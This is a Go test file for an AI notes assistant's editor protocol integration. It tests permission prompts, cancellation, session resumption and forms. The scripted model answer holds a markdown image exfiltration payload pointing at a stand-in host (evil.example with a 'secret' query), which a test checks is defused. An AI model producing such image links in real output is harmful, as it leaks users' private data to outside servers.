//go:build unix

package acp_test

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	sdk "github.com/coder/acp-go-sdk"

	"lifehub/agent"
	"lifehub/internal/apptest"
	"lifehub/internal/testenv"
	"lifehub/llm/llmtest"
)

// runs returns a model that plans a search and quotes what it finds.
func runs() *llmtest.Script {
	return llmtest.NewScript(
		llmtest.Answer{Match: asksPlanner, Text: `{"reasoning":"look it up","steps":[{"id":"1","tool":"search_notes",` +
			`"input":{"query":"running"}},{"id":"2","tool":"list_tasks","input":{}}]}`, Always: true},
		llmtest.Answer{
			Match: asksExplainer, Thinking: "Quote it.",
			Text: "You wrote: “I run three times a week” [1]. ![x](http://evil.example/?q=secret)", Always: true,
		},
	)
}

// The editor gets the same plan, calls, sources, reasoning, answer and verdicts as `lifehub ask`
// emits for the same model.
func TestEditorGetsTheEventsOfTheChat(t *testing.T) {
	env := environ(t, t.TempDir(), runs())
	vault := indexed(t, env)
	var said, thought, plan, calls, verdicts []string
	lines := bufio.NewScanner(strings.NewReader(run(t, env, "ask", "--stream-json", "--notes",
		vault, "how often do I run?")))
	lines.Buffer(nil, 1<<20)
	for lines.Scan() {
		var e agent.Event
		if err := json.Unmarshal(lines.Bytes(), &e); err != nil {
			t.Fatal(err)
		}
		switch b := e.Body.(type) {
		case agent.Said:
			said = append(said, b.Content)
		case agent.Thought:
			thought = append(thought, b.Content)
		case agent.PlanMade:
			for _, step := range b.Steps {
				plan = append(plan, step.Tool)
			}
		case agent.ToolEnded:
			for _, s := range b.Sources {
				calls = append(calls, s.Path)
			}
		case agent.Cited:
			verdicts = append(verdicts, b.Citation.Mark()+" "+b.Citation.Place()+" "+b.Citation.Label())
		}
	}

	e, _ := inside(t, env, vault)
	id := e.begin(t, vault)
	if stop := e.ask(t, id, text("how often do I run?")); stop != sdk.StopReasonEndTurn {
		t.Errorf("it stopped with %s", stop)
	}
	updates := e.told(id)
	if got, want := answered(updates), strings.ReplaceAll(strings.Join(said, ""), "![x]", "! [x]"); got != want ||
		got == "" {
		t.Errorf("the answer is %q, ask says %q", got, want)
	}
	var thoughts, places []string
	var last *sdk.SessionUpdatePlan
	status := map[sdk.ToolCallId][]sdk.ToolCallStatus{}
	kinds := map[string]sdk.ToolKind{}
	for _, u := range updates {
		switch {
		case u.AgentThoughtChunk != nil:
			thoughts = append(thoughts, u.AgentThoughtChunk.Content.Text.Text)
		case u.Plan != nil:
			last = u.Plan
		case u.ToolCall != nil:
			status[u.ToolCall.ToolCallId] = append(status[u.ToolCall.ToolCallId], u.ToolCall.Status)
			name, _, _ := strings.Cut(u.ToolCall.Title, " ")
			kinds[name] = u.ToolCall.Kind
		case u.ToolCallUpdate != nil:
			status[u.ToolCallUpdate.ToolCallId] = append(status[u.ToolCallUpdate.ToolCallId], *u.ToolCallUpdate.Status)
			for _, l := range u.ToolCallUpdate.Locations {
				if l.Line == nil || *l.Line < 1 || !filepath.IsAbs(l.Path) {
					t.Errorf("a place without line: %s", jsonOf(l))
				}
				places = append(places, filepath.Base(l.Path))
			}
		}
	}
	if strings.Join(thoughts, "") != strings.Join(thought, "") {
		t.Errorf("thoughts are %q, ask tells %q", thoughts, thought)
	}
	if last == nil || len(last.Entries) != len(plan) || !strings.HasPrefix(last.Entries[0].Content, plan[0]) ||
		last.Entries[0].Status != sdk.PlanEntryStatusCompleted ||
		last.Entries[1].Status != sdk.PlanEntryStatusCompleted {
		t.Errorf("the plan is %s, ask tells %v", jsonOf(last), plan)
	}
	if len(status) != len(plan) || kinds["search_notes"] != sdk.ToolKindSearch ||
		kinds["list_tasks"] != sdk.ToolKindRead {
		t.Errorf("the calls are %v of kinds %v", status, kinds)
	}
	for call, s := range status {
		if len(s) != 2 || s[0] != sdk.ToolCallStatusInProgress || s[1] != sdk.ToolCallStatusCompleted {
			t.Errorf("call %s: %v", call, s)
		}
	}
	// The editor's session answers while the index is still opened, and may find less.
	if len(places) == 0 || slices.ContainsFunc(places, func(p string) bool { return !slices.Contains(calls, p) }) {
		t.Errorf("sources are at %v, ask tells %v", places, calls)
	}
	for _, verdict := range verdicts {
		for _, word := range strings.Fields(strings.NewReplacer("[", "", "]", "").Replace(verdict)) {
			if !strings.Contains(strings.NewReplacer("\\", "", "[", "", "]", "").Replace(asides(updates)), word) {
				t.Errorf("the verdict %q is missing in %s", verdict, asides(updates))
			}
		}
	}
	if !strings.Contains(asides(updates), "(file://"+filepath.ToSlash(vault)+"/running.md#L3)") {
		t.Errorf("the source does not open at its line: %s", asides(updates))
	}
}

// The request for a writing call has the options, the sentence and the diff of the dialog, and only
// the user's yes runs the call.
func TestEditorAsksForPermission(t *testing.T) {
	env := environ(t, t.TempDir(), nil)
	vault := indexed(t, env)
	tasks := filepath.Join(vault, "tasks.md")
	before := apptest.Read(t, tasks)
	e, _ := inside(t, env, vault)
	id := e.begin(t, vault)
	for _, no := range []string{"no", "", "yes", "ALLOW"} { // an option that was not offered does not count
		e.answer = func(sdk.RequestPermissionRequest) string { return no }
		e.ask(t, id, text("/task call Ines"))
		if apptest.Read(t, tasks) != before {
			t.Fatalf("%q let it write", no)
		}
	}
	failed := false
	for _, u := range e.told(id) {
		failed = failed || u.ToolCallUpdate != nil && u.ToolCallUpdate.Status != nil &&
			*u.ToolCallUpdate.Status == sdk.ToolCallStatusFailed
	}
	if !failed {
		t.Error("a call that was denied is not shown so")
	}

	e.forget()
	load(t, e, id, vault)
	replayed := 0
	for _, u := range e.told(id) {
		if u.ToolCall == nil {
			continue
		}
		if replayed++; u.ToolCall.Status != sdk.ToolCallStatusFailed {
			t.Errorf("a call that was denied is replayed as %s", jsonOf(u))
		}
	}
	if replayed != 4 {
		t.Errorf("%d calls are replayed", replayed)
	}

	e.answer = func(sdk.RequestPermissionRequest) string { return "once" }
	e.forget()
	e.ask(t, id, text("/task call Ines"))
	if !strings.Contains(apptest.Read(t, tasks), "- [ ] call Ines") {
		t.Errorf("allowed, it did not write: %s", apptest.Read(t, tasks))
	}
	p := e.asked[len(e.asked)-1]
	var options []string
	for _, o := range p.Options {
		options = append(options, string(o.OptionId)+" "+string(o.Kind))
	}
	if got := strings.Join(options, ", "); got != "once allow_once, conversation allow_always, always allow_always, "+
		"no reject_once" {
		t.Errorf("the options are %s", got)
	}
	if got := *p.ToolCall.Title; got != "Allow add_task? Add 1 line to tasks.md, line 4" {
		t.Errorf("the question is %q", got)
	}
	content := jsonOf(p.ToolCall.Content)
	if !strings.Contains(content, "+ - [ ] call Ines") || !strings.Contains(content, `"path":"`+tasks+`"`) ||
		!strings.Contains(content, `call the plumber\n- [ ] call Ines`) {
		t.Errorf("the question does not show what will be written: %s", content)
	}
	if !strings.Contains(asides(e.told(id)), "changed tasks.md") {
		t.Errorf("what it did is not told: %s", asides(e.told(id)))
	}
	e.forget()
	load(t, e, id, vault)
	if updates := jsonOf(e.told(id)); strings.Count(updates, `"status":"completed"`) != 1 {
		t.Errorf("the call that was allowed is replayed as %s", updates)
	}
	e.answer = func(sdk.RequestPermissionRequest) string { return "conversation" }
	e.ask(t, id, text("/task one"))
	asked := len(e.asked)
	e.ask(t, id, text("/task two"))
	if len(e.asked) != asked || !strings.Contains(apptest.Read(t, tasks), "two") {
		t.Errorf("allowed in this chat, it asks again")
	}
	e.answer = func(sdk.RequestPermissionRequest) string { return "always" }
	e.ask(t, e.begin(t, vault), text("/task three"))
	if len(e.asked) != asked+1 {
		t.Errorf("another session took the permission of the first")
	}
	if got := run(t, env, "permissions", "list"); !strings.Contains(got, "add_task") {
		t.Errorf("the rule of always was not saved: %s", got)
	}
}

// session/cancel stops a turn; its text so far is saved.
func TestCancelStopsATurn(t *testing.T) {
	hold := make(chan struct{})
	defer close(hold)
	env := environ(t, t.TempDir(), llmtest.NewScript(
		llmtest.Answer{Match: asksPlanner, Text: `{"steps":[{"id":"1","tool":"search_notes",` +
			`"input":{"query":"running"}}]}`, Always: true},
		llmtest.Answer{
			Match: asksExplainer, Pieces: []string{"Three ", "times"}, Hold: hold,
			HoldAfter: 1, Always: true,
		},
	))
	vault := indexed(t, env)
	e, _ := inside(t, env, vault)
	id := e.begin(t, vault)
	stopped := make(chan sdk.StopReason, 1)
	go func() { stopped <- e.ask(t, id, text("how often do I run?")) }()
	isAnswer := func(u sdk.SessionUpdate) bool { return u.AgentMessageChunk != nil }
	e.await(t, id, "answer", isAnswer)
	if _, err := e.Prompt(t.Context(), sdk.PromptRequest{
		SessionId: id,
		Prompt:    []sdk.ContentBlock{text("and now?")},
	}); err == nil ||
		!strings.Contains(err.Error(), "still answering") {
		t.Errorf("a second prompt at once: %v", err)
	}
	other := e.begin(t, vault)
	go func() { stopped <- e.ask(t, other, text("in another session?")) }()
	e.await(t, other, "answer", isAnswer)
	for _, id := range []sdk.SessionId{id, other} {
		if err := e.Cancel(t.Context(), sdk.CancelNotification{SessionId: id}); err != nil {
			t.Fatal(err)
		}
		select {
		case stop := <-stopped:
			if stop != sdk.StopReasonCancelled {
				t.Errorf("it stopped with %s", stop)
			}
		case <-time.After(patience):
			t.Fatal("it does not stop")
		}
	}
	if got := answered(e.told(id)); got != "Three" {
		t.Errorf("the answer is %q", got)
	}

	list, err := e.ListSessions(t.Context(), sdk.ListSessionsRequest{})
	if err != nil || len(list.Sessions) != 2 || !strings.HasPrefix(*list.Sessions[1].Title, "how often") {
		t.Errorf("%v: the sessions are %s", err, jsonOf(list))
	}
}

// A process killed in the middle of a turn loses nothing: another one loads the session and resumes
// the turn. Finished steps do not run again, and a pending request is repeated.
func TestTurnIsResumedAfterAKill(t *testing.T) {
	hold := make(chan struct{})
	env := environ(t, t.TempDir(), llmtest.NewScript(
		llmtest.Answer{Match: asksPlanner, Text: `{"steps":[{"id":"1","tool":"search_notes",` +
			`"input":{"query":"running"}},{"id":"2","tool":"add_task","input":{"text":"buy shoes"},"after":["1"]}]}`},
		llmtest.Answer{Match: asksExplainer, Pieces: []string{"It is ", "done."}, Hold: hold, HoldAfter: 1},
		llmtest.Answer{Match: asksExplainer, Text: "It is done.", Always: true},
	))
	vault := indexed(t, env)
	tasks := filepath.Join(vault, "tasks.md")

	waiting := make(chan struct{})
	e, cmd, _ := program(t, env, "--notes", vault)
	e.answer = func(sdk.RequestPermissionRequest) string { <-waiting; return "" }
	defer close(waiting)
	id := e.begin(t, vault)
	go func() {
		_, _ = e.Prompt(t.Context(), sdk.PromptRequest{
			SessionId: id,
			Prompt:    []sdk.ContentBlock{text("add shoes for running")},
		})
	}()
	isAsked := func(u sdk.SessionUpdate) bool {
		return u.ToolCall != nil && u.ToolCall.Status == sdk.ToolCallStatusPending
	}
	first := e.await(t, id, "question", isAsked)
	kill(t, cmd)

	// The pending request is repeated, with the same arguments.
	e, cmd, _ = program(t, env, "--notes", vault)
	e.answer = func(sdk.RequestPermissionRequest) string { return "once" }
	load(t, e, id, vault)
	updates := e.told(id)
	if updates[0].UserMessageChunk == nil || updates[0].UserMessageChunk.Content.Text.Text != "add shoes for running" ||
		!strings.Contains(asides(updates), "/continue resumes it") {
		t.Errorf("loaded: %s", jsonOf(updates))
	}
	e.forget()
	go func() {
		_, _ = e.Prompt(t.Context(), sdk.PromptRequest{SessionId: id, Prompt: []sdk.ContentBlock{text("/continue")}})
	}()
	again := e.await(t, id, "question", isAsked)
	if jsonOf(again.ToolCall.RawInput) != jsonOf(first.ToolCall.RawInput) ||
		again.ToolCall.ToolCallId != first.ToolCall.ToolCallId {
		t.Errorf("asked again: %s", jsonOf(again))
	}
	e.await(t, id, "answer", func(u sdk.SessionUpdate) bool { return answered([]sdk.SessionUpdate{u}) != "" })
	for _, u := range e.told(id) {
		if u.ToolCall != nil && strings.HasPrefix(u.ToolCall.Title, "search_notes") {
			t.Error("a finished step was run again")
		}
	}
	kill(t, cmd) // in the middle of the answer
	close(hold)

	e, cmd, in := program(t, env, "--notes", vault)
	load(t, e, id, vault)
	if got := answered(e.told(id)); !strings.HasPrefix("It is ", got) {
		t.Errorf("loaded: %q", got)
	}
	e.forget()
	if stop := e.ask(t, id, text("/continue")); stop != sdk.StopReasonEndTurn || answered(e.told(id)) != "It is done." {
		t.Errorf("resumed: %s, %q", stop, answered(e.told(id)))
	}
	if n := strings.Count(apptest.Read(t, tasks), "buy shoes"); n != 1 || len(e.asked) > 0 {
		t.Errorf("the task is there %d times, asked again %d times", n, len(e.asked))
	}
	e.forget()
	e.ask(t, id, text("/continue"))
	if got := asides(e.told(id)) + jsonOf(e.told(id)); !strings.Contains(got, "nothing to resume") {
		t.Errorf("once more: %s", got)
	}
	in.Close()
	if err := cmd.Wait(); err != nil {
		t.Errorf("the end of its input: %v", err)
	}
}

func kill(t *testing.T, cmd *exec.Cmd) {
	t.Helper()
	if err := cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait()
}

func load(t *testing.T, e *editor, id sdk.SessionId, cwd string) {
	t.Helper()
	if _, err := e.LoadSession(t.Context(), sdk.LoadSessionRequest{
		SessionId: id, Cwd: cwd,
		McpServers: []sdk.McpServer{},
	}); err != nil {
		t.Fatal(err)
	}
}

// SIGTERM and the end of the input suspend a turn; they do not stop it.
func TestExitSuspendsATurn(t *testing.T) {
	hold := make(chan struct{})
	defer close(hold)
	for name, end := range map[string]func(*exec.Cmd, io.Closer) error{
		"SIGTERM":     func(cmd *exec.Cmd, _ io.Closer) error { return cmd.Process.Signal(syscall.SIGTERM) },
		"end of file": func(_ *exec.Cmd, in io.Closer) error { return in.Close() },
	} {
		env := environ(t, t.TempDir(), llmtest.NewScript(
			llmtest.Answer{Match: asksPlanner, Text: `{"steps":[{"id":"1","tool":"search_notes",` +
				`"input":{"query":"running"}}]}`},
			llmtest.Answer{Match: asksExplainer, Pieces: []string{"Three ", "times"}, Hold: hold, HoldAfter: 1},
			llmtest.Answer{Match: asksExplainer, Text: "Three times.", Always: true},
		))
		vault := indexed(t, env)
		e, cmd, in := program(t, env, "--notes", vault)
		id := e.begin(t, vault)
		go func() {
			_, _ = e.Prompt(t.Context(), sdk.PromptRequest{
				SessionId: id,
				Prompt:    []sdk.ContentBlock{text("how often do I run?")},
			})
		}()
		e.await(t, id, "answer", func(u sdk.SessionUpdate) bool { return u.AgentMessageChunk != nil })
		if err := end(cmd, in); err != nil {
			t.Fatal(err)
		}
		if _ = cmd.Wait(); cmd.ProcessState.ExitCode() != map[string]int{"SIGTERM": 143, "end of file": 0}[name] {
			t.Errorf("%s: exit code %d", name, cmd.ProcessState.ExitCode())
		}
		e, _, _ = program(t, env, "--notes", vault)
		load(t, e, id, vault)
		if got := asides(e.told(id)); !strings.Contains(got, "/continue resumes it") {
			t.Errorf("%s: loaded: %s", name, got)
		}
	}
}

// The protocol's own SDK, in another language, validates each message against its schema and gets
// the same.
func TestEditorInAnotherLanguage(t *testing.T) {
	node, lib := testenv.Editor(t)
	env := environ(t, t.TempDir(), nil)
	vault := indexed(t, env)
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	cmd := exec.CommandContext(ctx, node, "testdata/editor.mjs", lib, vault, "once", os.Args[0], "acp", "--notes",
		vault, "--", "how often do I run?", "/task call Ines")
	cmd.Env, cmd.Stderr = env, t.Output()
	out, err := cmd.Output()
	var result struct {
		Updates []sdk.SessionUpdate
		Asked   []sdk.RequestPermissionRequest
		Stops   []sdk.StopReason
		Listed  sdk.ListSessionsResponse
		From    int `json:"loadedFrom"`
	}
	if err == nil {
		err = json.Unmarshal(out, &result)
	}
	if err != nil || len(result.Stops) != 2 || result.Stops[1] != sdk.StopReasonEndTurn ||
		len(result.Listed.Sessions) != 1 || len(result.Asked) != 1 {
		t.Fatalf("%v: %s", err, out)
	}
	live, loaded := result.Updates[:result.From], result.Updates[result.From:]
	if got := answered(live); !strings.Contains(got, "three times a week") || got != answered(loaded) {
		t.Errorf("the answers are %q, loaded %q", got, answered(loaded))
	}
	if !strings.Contains(apptest.Read(t, filepath.Join(vault, "tasks.md")), "- [ ] call Ines") ||
		!strings.Contains(asides(loaded), "changed tasks.md") {
		t.Errorf("the task is not there, or not told: %s", asides(loaded))
	}
}

// A form of an MCP server is shown if the editor supports forms and declined otherwise. Values that
// do not fit are not an answer.
func TestServerFormIsShownInTheEditor(t *testing.T) {
	env := environ(t, t.TempDir(), nil)
	run(t, env, "mcp", "add", "e", "--", testenv.Npm(t, "@modelcontextprotocol/server-everything"))
	e, _ := inside(t, env, apptest.Vault(t))
	e.answer = func(sdk.RequestPermissionRequest) string { return "once" }
	id := e.begin(t, t.TempDir())
	for _, step := range []struct {
		shows bool
		form  map[string]any
		says  string
	}{
		{false, map[string]any{"name": "Ana"}, "which was declined"},
		{true, map[string]any{"name": "Ana", "integer": 7}, "Ana"},
		{true, map[string]any{"name": 7}, "declined"},
		{true, nil, "declined"},
	} {
		e.showForms(t, step.shows)
		e.forget()
		e.form = step.form
		e.ask(t, id, text("@e_trigger-elicitation-request"))
		if got := jsonOf(e.told(id)); !strings.Contains(got, step.says) {
			t.Errorf("%+v: %s", step, got)
		}
	}
}

func TestPlanIsApprovedInTheEditor(t *testing.T) {
	env := append(environ(t, t.TempDir(), nil), "LIFEHUB_APPROVE=true")
	vault := indexed(t, env)
	e, _ := inside(t, env, vault)
	id := e.begin(t, vault)
	for _, step := range []struct {
		shows      bool
		form       map[string]any
		says, ends string
	}{
		{false, map[string]any{}, "cannot show a plan", "Not run"},
		{true, nil, "Not run", "declined"},
		{true, map[string]any{"1": "drop"}, "Not run", "dropped"},
		{true, map[string]any{"1": "run", "1.query": "tasks"}, `"query":"tasks"`, ""},
	} {
		e.showForms(t, step.shows)
		e.forget()
		e.form = step.form
		e.ask(t, id, text("what do I know about running?"))
		if got := jsonOf(e.told(id)); !strings.Contains(got, step.says) || !strings.Contains(got, step.ends) {
			t.Errorf("%+v: %s", step, got)
		}
	}
}

// An editor closed while a request is pending has not answered it: the request is repeated.
func TestQuestionOutlivesTheEditor(t *testing.T) {
	env := environ(t, t.TempDir(), nil)
	vault := indexed(t, env)
	waiting := make(chan struct{})
	e, leave := inside(t, env, vault)
	e.answer = func(sdk.RequestPermissionRequest) string { <-waiting; return "" }
	defer close(waiting)
	id := e.begin(t, vault)
	go func() {
		_, _ = e.Prompt(t.Context(), sdk.PromptRequest{
			SessionId: id,
			Prompt:    []sdk.ContentBlock{text("/task call Ines")},
		})
	}()
	e.await(t, id, "question", func(u sdk.SessionUpdate) bool {
		return u.ToolCall != nil && u.ToolCall.Status == sdk.ToolCallStatusPending
	})
	leave()
	e, _ = inside(t, env, vault)
	e.answer = func(sdk.RequestPermissionRequest) string { return "once" }
	load(t, e, id, vault)
	e.ask(t, id, text("/continue"))
	if len(e.asked) != 1 || !strings.Contains(apptest.Read(t, filepath.Join(vault, "tasks.md")), "call Ines") {
		t.Errorf("it was asked %d times again: %s", len(e.asked), jsonOf(e.told(id)))
	}
}

// The editor gets the same remarks on quotations as the chat.
func TestRiderReachesTheEditor(t *testing.T) {
	t.Parallel()
	var steps, answer []string
	for i, r := range apptest.Riders {
		steps = append(steps, fmt.Sprintf(`{"id":"%d","tool":"read_note","input":{"path":%q}}`, i+1, r.Path))
		answer = append(answer, fmt.Sprintf("You wrote: “%s” [%d]", r.Words, i+1))
	}
	env := environ(t, t.TempDir(), llmtest.NewScript(
		llmtest.Answer{Match: asksPlanner, Text: `{"steps":[` + strings.Join(steps, ",") + `]}`},
		llmtest.Answer{Match: asksExplainer, Text: strings.Join(answer, "\n\n")},
	))
	vault := indexed(t, env)
	apptest.WriteRiders(t, vault)
	run(t, env, "index", vault)
	e, _ := inside(t, env, vault)
	id := e.begin(t, vault)
	e.ask(t, id, text("what do my notes say?"))
	told := strings.ReplaceAll(asides(e.told(id)), "\\", "")
	for _, r := range apptest.Riders {
		if mark := strings.TrimSuffix("✓ quoted, "+r.Said, ", ") + "\n"; !strings.Contains(told, mark) {
			t.Errorf("%s: no %q in %s", r.Path, mark, told)
		}
	}
}
